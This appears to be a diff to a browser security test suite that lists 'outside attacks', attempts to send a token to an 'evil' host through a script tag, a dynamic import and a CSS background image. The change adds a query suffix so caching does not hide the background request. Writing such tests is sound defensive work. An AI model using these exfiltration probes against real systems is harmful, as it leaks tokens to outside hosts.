@@ -87,7 +87,8 @@ export const OUTSIDE_ATTACKS: readonly BrowserAttack[] = [
   outside('a script', element('script', 'src')),
   outside('an import', "({ evil, token }) => import(evil + '/' + token).then(() => 'a module', () => 'refused')"),
   outside('a background', ({ evil, token }) => {
-    document.body.style.backgroundImage = `url(${evil}/${token})`;
+    // Another address than those of images: what has been loaded is not asked for again.
+    document.body.style.backgroundImage = `url(${evil}/${token}?background)`;
     document.body.getBoundingClientRect();
     return 'refused';
   }),
